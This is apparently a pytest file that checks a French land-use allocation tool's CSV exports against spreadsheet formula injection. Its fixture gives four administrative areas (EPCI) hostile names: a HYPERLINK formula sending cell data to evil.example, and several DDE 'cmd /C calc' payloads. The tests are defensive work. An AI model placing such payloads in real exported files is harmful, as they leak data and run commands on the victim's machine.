"""Spreadsheet formula injection: every CSV output writes a hostile name as inert text.

OWASP's rule ("CSV Injection"): a text cell starting with ``= + - @ \\t \\r`` is
prefixed with a single quote; numbers (negative ones included, decimal comma or
point) are written as numbers. Each of the seven CSV outputs named in the issue is
produced end to end from the demo region with four EPCI renamed.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from click.testing import CliRunner

from zan._write import guard_formula, write_csv
from zan.cli import main
from zan.datasets import get_path, scenario_path

#: EPCI SIREN (demo) → a hostile name.
HOSTILE = {
    "249612771": '=HYPERLINK("http://evil.example/?x="&A1,"Quéay")',
    "249904830": "+cmd|' /C calc'!A0",
    "249985805": "@SUM(1+1)*cmd|' /C calc'!A0",
    "249600297": "-2+3+cmd|' /C calc'!A0",
}


def _rows(path, sep):
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=sep))


def _cells(path, sep):
    return [cell for row in _rows(path, sep) for cell in row]


def _assert_guarded(path, sep, *, expect_names=True):
    """No cell starts a formula; every hostile name is there, quoted."""
    cells = _cells(path, sep)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
        if cell.startswith("-"):
            float(cell.replace(",", "."))  # only negative numbers start with "-"
    if expect_names:
        for name in HOSTILE.values():
            assert "'" + name in cells, (path.name, name)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A copy of scenario 02 whose membership table gives four EPCI hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    members = pd.read_csv(get_path("communes.csv"), dtype=str, keep_default_na=False)
    for siren, name in HOSTILE.items():
        assert (members["epci_siren"] == siren).any()
        members.loc[members["epci_siren"] == siren, "epci_nom"] = name
    members.to_csv(folder / "communes.csv", index=False)
    source = scenario_path("02_consommation_population")
    demo = source.parent.parent / "demo"
    text = source.read_text(encoding="utf-8").replace("../demo/", f"{demo}/")
    text = text.replace(f"{demo}/communes.csv", str(folder / "communes.csv"))
    scenario = folder / "s.toml"
    scenario.write_text(text, encoding="utf-8")
    other = folder / "t.toml"
    other.write_text(
        text.replace("reduction = 0.5", "reduction = 0.6").replace(
            'name = "Consommation et population"', 'name = "Variante"'
        ),
        encoding="utf-8",
    )
    return folder, scenario, other


def _invoke(*args):
    res = CliRunner().invoke(main, [str(a) for a in args])
    assert res.exit_code == 0, res.output
    return res


def test_guard_formula_rule():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert guard_formula(start + "x") == "'" + start + "x"
    for number in ("-12", "-12,5", "-0.25", "+3", "-1.5e-3", "-1.234,5"):
        assert guard_formula(number) == number
    for kept in ("Aval", "", "a=b", "'=x", None, -3.5, 7):
        assert guard_formula(kept) == kept


def test_write_csv_guards_text_headers_and_index_never_numbers(tmp_path):
    t = pd.DataFrame(
        {
            "nom": ["=1+1", "Aval", None],
            "=titre": ["a", "b", "c"],
            "solde_ha": [-2.5, 1.0, -0.0001],
            "n": [-3, 4, 5],
            "cat": pd.Categorical(["@x", "y", "@x"]),
        },
        index=pd.Index(["-A", "B", "C"], name="code"),
    )
    p = write_csv(t, tmp_path / "t.csv", sep=";", decimal=",")
    assert p.read_text().splitlines() == [
        "code;nom;'=titre;solde_ha;n;cat",
        "'-A;'=1+1;a;-2,5000;-3;'@x",
        "B;Aval;b;1,0000;4;y",
        "C;;c;-0,0001;5;'@x",
    ]
    assert t.loc["-A", "nom"] == "=1+1"  # the caller's table is left alone


def test_allocation_csv(hostile, tmp_path):
    _, scenario, _ = hostile
    _invoke("allocate", scenario, "--out", tmp_path)
    path = tmp_path / "allocation.csv"
    _assert_guarded(path, ",")
    table = pd.read_csv(path, dtype={"code": str})
    assert pd.api.types.is_float_dtype(table["envelope_ha"])


@pytest.mark.parametrize("comma", [False, True])
def test_export_csv(hostile, tmp_path, comma):
    _, scenario, _ = hostile
    out = tmp_path / "e.csv"
    _invoke("export", scenario, out, *(["--decimal-comma"] if comma else []))
    _assert_guarded(out, ";")
    back = pd.read_csv(out, sep=";", decimal="," if comma else ".", encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(back["Enveloppe (ha)"])
    assert back["Enveloppe (ha)"].sum() > 0
    # negative numbers stay numbers (no quote), with the asked decimal mark
    negatives = [c for c in _cells(out, ";") if c.startswith("-")]
    assert all(("," in c) == comma or "." not in c for c in negatives)


def test_ledger_balance_out(hostile, tmp_path):
    _, scenario, _ = hostile
    ledger = tmp_path / "compte.gpkg"
    _invoke("ledger", "init", ledger, "--scenario", scenario)
    out = tmp_path / "soldes.csv"
    _invoke("ledger", "balance", ledger, "--out", out)
    sep = ";" if ";" in out.read_text(encoding="utf-8-sig").splitlines()[0] else ","
    _assert_guarded(out, sep)


def test_comparison_csvs(hostile, tmp_path):
    _, scenario, other = hostile
    _invoke("compare", scenario, other, "--out", tmp_path)
    for name in ("comparaison.csv", "gagnants_perdants.csv"):
        _assert_guarded(tmp_path / name, ",", expect_names=name == "comparaison.csv")
    losers = _cells(tmp_path / "gagnants_perdants.csv", ",")
    assert any(c.startswith("'") for c in losers)
    assert any(c.startswith("-") for c in _cells(tmp_path / "comparaison.csv", ","))


def test_sensitivity_intervals_csv(hostile, tmp_path):
    _, scenario, _ = hostile
    _invoke("sensitivity", scenario, "--samples", 64, "--out", tmp_path)
    _assert_guarded(tmp_path / "intervalles.csv", ",")
